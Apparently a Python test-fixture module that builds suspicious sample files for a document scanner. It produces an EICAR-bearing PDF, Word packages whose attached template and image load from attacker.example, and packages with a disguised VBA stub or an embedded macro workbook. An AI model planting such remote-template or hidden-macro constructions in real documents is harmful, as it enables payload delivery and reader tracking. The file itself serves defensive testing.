"""Files made for the tests: EICAR inside a PDF and a Word package, and Word packages with links or macros."""

import io
import zipfile
import zlib

# The anti-virus test file (eicar.org): harmless, detected by every scanner as a virus. In two
# halves, so that a scanner on a developer's machine does not take this source file for it.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
OLE = bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 504  # the start of a compound file, as a VBA project is


def pdf_with(payload: bytes) -> bytes:
    """A one-page PDF carrying `payload` as an embedded file (a compressed stream), as a PDF with an attachment does."""
    page = zlib.compress(b"BT /F1 12 Tf 72 720 Td (Statement) Tj ET")
    embedded = zlib.compress(payload)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(statement.com) 6 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(page) + page + b"\nendstream",
        b"<< /Type /EmbeddedFile /Length %d /Filter /FlateDecode >>\nstream\n" % len(embedded) + embedded + b"\nendstream",
        b"<< /Type /Filespec /F (statement.com) /EF << /F 5 0 R >> >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def docx_with_text(text: str) -> bytes:
    import docx

    document = docx.Document()
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def rewrite(data: bytes, change=None, add: dict[str, bytes] | None = None) -> bytes:
    """The same package with some parts changed (change(name, content) -> content) and some added."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            content = source.read(entry.filename)
            target.writestr(entry, change(entry.filename, content) if change else content)
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return buffer.getvalue()


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


RELS_NS = b"http://schemas.openxmlformats.org/package/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _rels(*relationships: bytes) -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="'
        + RELS_NS
        + b'">'
        + b"".join(relationships)
        + b"</Relationships>"
    )


def with_attached_template(data: bytes, target: str = "http://attacker.example/templates/normal.dotm") -> bytes:
    """Word set to fetch its template from another server when the document is opened."""

    def change(name, content):
        if name == "word/settings.xml":
            return content.replace(b'mc:Ignorable="w14">', b'mc:Ignorable="w14"><w:attachedTemplate r:id="rIdTemplate1"/>', 1)
        return content

    relationship = (
        b'<Relationship Id="rIdTemplate1" Type="'
        + (REL + "attachedTemplate").encode()
        + b'" Target="'
        + target.encode()
        + b'" TargetMode="External"/>'
    )
    return rewrite(data, change, add={"word/_rels/settings.xml.rels": _rels(relationship)})


def with_remote_image(data: bytes) -> bytes:
    """A picture linked from a remote server rather than inserted: Word fetches it on opening."""

    def change(name, content):
        if name == "word/_rels/document.xml.rels":
            return content.replace(
                b"</Relationships>",
                b'<Relationship Id="rIdRemote9" Type="'
                + (REL + "image").encode()
                + b'" Target="http://attacker.example/pixel.png" TargetMode="External"/></Relationships>',
            )
        return content

    return rewrite(data, change)


def with_hyperlink(data: bytes) -> bytes:
    def change(name, content):
        if name == "word/_rels/document.xml.rels":
            return content.replace(
                b"</Relationships>",
                b'<Relationship Id="rIdLink9" Type="'
                + (REL + "hyperlink").encode()
                + b'" Target="https://www.cafcass.gov.uk/" TargetMode="External"/></Relationships>',
            )
        return content

    return rewrite(data, change)


def with_renamed_macros(data: bytes, *, declared: str) -> bytes:
    """A VBA project stored as word/vbaData.bin (a name that says nothing), declared as `declared`."""

    def change(name, content):
        if name == "[Content_Types].xml":
            return content.replace(
                b"</Types>", b'<Override PartName="/word/vbaData.bin" ContentType="' + declared.encode() + b'"/></Types>'
            )
        if name == "word/_rels/document.xml.rels":
            return content.replace(
                b"</Relationships>",
                b'<Relationship Id="rIdVba1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaData.bin"/></Relationships>',
            )
        return content

    return rewrite(data, change, add={"word/vbaData.bin": OLE})


def with_macro_workbook_inside(data: bytes) -> bytes:
    """An embedded workbook that is itself macro-enabled: a package inside the package."""
    workbook = io.BytesIO()
    with zipfile.ZipFile(workbook, "w") as inner:
        inner.writestr(
            "[Content_Types].xml",
            b'<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
        )
        inner.writestr("xl/workbook.xml", b"<workbook/>")
    return rewrite(data, add={"word/embeddings/Microsoft_Excel_Worksheet1.xlsx": workbook.getvalue()})
